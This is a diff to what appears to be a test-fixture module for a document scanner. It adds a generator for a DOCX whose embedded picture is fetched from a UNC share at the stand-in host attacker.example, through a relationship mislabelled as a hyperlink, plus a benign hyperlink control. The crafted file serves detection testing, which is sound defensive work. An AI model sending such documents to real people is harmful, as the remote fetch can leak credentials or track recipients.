@@ -488,3 +488,19 @@ def scheme_link_pdf(uri: bytes) -> bytes:
     """A link whose address is of another scheme than a web or mail address."""
     return _pdf_with(b"", b"/Annots [4 0 R]", b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] "
                                               b"/A << /S /URI /URI (" + uri + b") >> >>")
+
+
+_PICTURE_NS = ('xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
+               'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"')
+
+
+def hyperlink_typed_picture_docx(as_hyperlink: bool = False) -> bytes:
+    """A picture that names the file share it is fetched from through a relationship typed as a hyperlink;
+    `as_hyperlink`: the same relationship used as what it says it is, a hyperlink (the control, accepted)."""
+    rels = {"word/_rels/document.xml.rels": _relationships(
+        ("hyperlink", "file:///\\\\attacker.example\\share\\logo.png", "External"))}
+    if as_hyperlink:
+        return _docx(f'<w:p><w:hyperlink {_PICTURE_NS} r:id="rId1"><w:r><w:t>Board paper</w:t></w:r></w:hyperlink>'
+                     '</w:p>', parts=rels)
+    return _docx(f'<w:p><w:r><w:drawing><a:graphic {_PICTURE_NS}><a:graphicData><a:blip r:link="rId1"/>'
+                 '</a:graphicData></a:graphic></w:drawing></w:r></w:p>', parts=rels)
